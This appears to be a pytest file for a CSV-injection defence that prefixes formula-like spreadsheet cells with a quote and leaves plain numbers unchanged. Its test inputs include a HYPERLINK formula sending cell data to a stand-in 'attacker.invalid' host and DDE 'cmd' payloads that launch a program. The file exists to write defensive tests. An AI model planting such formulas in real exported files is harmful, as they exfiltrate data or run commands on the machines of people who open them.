"""CSV cells a spreadsheet never runs as formulas (OWASP, "CSV Injection"): a cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote, unless it is a plain decimal
number, which a spreadsheet reads as that number and nothing else (``-12`` stays a number)."""

from __future__ import annotations

import csv
import io

import pyoxigraph as ox
import pytest

from dragonbear.spreadsheet import neutralize_csv, spreadsheet_cell, spreadsheet_csv

FORMULAS = [
    pytest.param("=1+1", id="equals"),
    pytest.param('=HYPERLINK("http://attacker.invalid/?"&A1,"x")', id="hyperlink"),
    pytest.param("+cmd|' /C calc'!A0", id="plus"),
    pytest.param("-2+3+cmd|' /C calc'!A0", id="minus-then-formula"),
    pytest.param("@SUM(1+1)", id="at"),
    pytest.param("\t=1+1", id="tab"),
    pytest.param("\r=1+1", id="carriage-return"),
    pytest.param("-", id="a-lone-minus"),
    pytest.param("-1-1", id="a-sum-of-numbers"),
    pytest.param("-inf", id="not-a-decimal"),
    pytest.param("+0x10", id="hexadecimal"),
]
NUMBERS = ["-12", "+12", "-3.5", "-.5", "-1.5e3", "+2E-4", "-0", "12"]
TEXT = ["J-11", "Shenyang J-11", "2014-03-18", "1+1", " =1", "", "'=already quoted"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(cell: str) -> None:
    assert spreadsheet_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", NUMBERS)
def test_a_plain_number_stays_a_number_negative_ones_too(cell: str) -> None:
    assert spreadsheet_cell(cell) == cell
    float(cell)  # what a spreadsheet reads in it


@pytest.mark.parametrize("cell", TEXT)
def test_other_text_is_left_as_it_is(cell: str) -> None:
    assert spreadsheet_cell(cell) == cell


def test_numbers_and_empty_cells_pass_through() -> None:
    assert [spreadsheet_cell(v) for v in (-12, -1.5, 0, None)] == [-12, -1.5, 0, None]


def test_a_csv_of_rows_is_quoted_where_it_must_be_and_reads_back() -> None:
    rows = [["label", "year", "delta"], ['=A1&"x"', 2014, -12], ["a, b", 2015, "-3.5"]]
    text = spreadsheet_csv(rows)
    assert list(csv.reader(io.StringIO(text))) == [
        ["label", "year", "delta"],
        ['\'=A1&"x"', "2014", "-12"],
        ["a, b", "2015", "-3.5"],
    ]


SOLUTIONS = """SELECT ?label ?n ?text WHERE { VALUES (?label ?n ?text) {
  ("=HYPERLINK(\\"http://attacker.invalid\\")" -12 "-12")
  ("J-11, \\"Flanker\\"\\nline two" 3 "@SUM(A1)")
  ("plain" -0.25 "-2+3") } }"""


def test_sparql_csv_results_from_the_engine_are_neutralized_cell_by_cell() -> None:
    """pyoxigraph's own SPARQL CSV (quoted fields, embedded quotes and line breaks, CRLF) read and
    written back with only the formula cells changed."""
    engine = ox.Store().query(SOLUTIONS).serialize(format=ox.QueryResultsFormat.CSV).decode()  # type: ignore[union-attr]
    safe = neutralize_csv(engine)
    assert list(csv.reader(io.StringIO(safe, newline=""))) == [
        ["label", "n", "text"],
        ['\'=HYPERLINK("http://attacker.invalid")', "-12", "-12"],
        ['J-11, "Flanker"\nline two', "3", "'@SUM(A1)"],
        ["plain", "-0.25", "'-2+3"],
    ]
    assert safe.endswith("\r\n") and safe.count("\r\n") == engine.count("\r\n")


def test_csv_with_nothing_to_change_is_returned_byte_for_byte() -> None:
    engine = ox.Store().query('SELECT ?x WHERE { VALUES ?x { "J-11" -4 "" } }')
    text = engine.serialize(format=ox.QueryResultsFormat.CSV).decode()  # type: ignore[union-attr]
    assert neutralize_csv(text) is text
